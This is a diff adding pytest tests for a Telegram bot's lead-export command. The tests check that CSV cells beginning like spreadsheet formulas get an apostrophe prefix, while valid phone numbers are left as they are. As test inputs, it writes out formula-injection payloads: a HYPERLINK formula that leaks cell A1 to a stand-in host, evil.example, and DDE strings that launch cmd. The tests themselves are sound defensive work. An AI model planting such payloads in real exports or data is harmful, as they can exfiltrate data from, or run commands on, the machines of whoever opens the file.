@@ -3,16 +3,18 @@ by a test that failed before its fix."""
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
-from aiogram.methods import AnswerCallbackQuery, EditMessageText
-from aiogram.types import Chat, InlineKeyboardButton, InlineKeyboardMarkup
+from aiogram.methods import AnswerCallbackQuery, EditMessageText, SendDocument
+from aiogram.types import BufferedInputFile, Chat, InlineKeyboardButton, InlineKeyboardMarkup, User
 
 from admin.router import router as admin_router
-from tests.dispatcher.test_admin import ADMIN, STRANGER, include_first
-from tests.support.harness import Harness
+from tests.dispatcher.test_admin import ADMIN, STRANGER, include_first, lead_id
+from tests.support.harness import HOT_RU_ANSWERS, Harness
 
 
 @pytest.fixture
@@ -138,3 +140,60 @@ async def test_set_with_a_superscript_list_index_is_an_unknown_key(harness: Harn
     assert "Неизвестный ключ" in last(harness)
     await harness.text(ADMIN, f"/set fit.rules.{HUGE}.points 2")
     assert "Неизвестный ключ" in last(harness)
+
+
+# --- /export_leads: CSV formula injection -----------------------------------------------------
+
+
+async def exported_rows(h: Harness) -> list[dict[str, str]]:
+    await h.text(ADMIN, "/export_leads all")
+    document = h.session.sent(SendDocument)[-1].document
+    assert isinstance(document, BufferedInputFile)
+    return list(csv.DictReader(io.StringIO(document.data.decode("utf-8-sig"), newline="")))
+
+
+async def test_export_neutralises_formulas_from_prospects_but_keeps_phones(
+    harness: Harness,
+) -> None:
+    h = harness
+    crafted = User(
+        id=31,
+        is_bot=False,
+        first_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        last_name="+1+cmd|' /C calc'!A0",
+        username="@SUM(1+1)",
+        language_code="ru",
+    )
+    answers = list(HOT_RU_ANSWERS)
+    answers[4] = "-2+3+cmd|' /C calc'!A0"  # company
+    answers[5] = "\t=1+1"  # position
+    await h.text(crafted, "/start -A1")
+    for answer in answers:
+        await h.text(crafted, answer)
+    plain = Harness.user(32)
+    await h.text(plain, "/start")
+    for answer in HOT_RU_ANSWERS:
+        await h.text(plain, answer)
+    rows = {row["id"]: row for row in await exported_rows(h)}
+    bad = rows[str(await lead_id(h, 31))]
+    for column in ("first_name", "last_name", "username", "company", "position", "source"):
+        assert bad[column].startswith("'"), (column, bad[column])
+    assert bad["first_name"] == "'" + crafted.first_name
+    assert bad["company"] == "'-2+3+cmd|' /C calc'!A0" and bad["source"] == "'-A1"
+    # A validated phone number is exempt: it stays "+7..." so sales can dial it.
+    assert bad["phone"] == "+79991234567"
+    good = rows[str(await lead_id(h, 32))]
+    assert good["company"] == "ООО Ромашка" and good["first_name"] == "Иван"
+    assert good["phone"] == "+79991234567" and good["email"] == "anna@romashka.ru"
+
+
+def test_csv_cells_starting_like_a_formula_get_an_apostrophe() -> None:
+    from admin.leads import csv_phone, csv_text
+
+    for raw in ("=1", "+1", "-1", "@a", "\tx", "\rx", "=", "+"):
+        assert csv_text(raw) == "'" + raw
+    for raw in ("", "Анна", "a=1", " =1", "'=1"):
+        assert csv_text(raw) == raw
+    assert csv_phone("+79991234567") == "+79991234567"
+    assert csv_phone("+7999=1") == "'+7999=1" and csv_phone("-79991234567") == "'-79991234567"
+    assert csv_phone("+1234567890123456") == "'+1234567890123456"  # longer than E.164
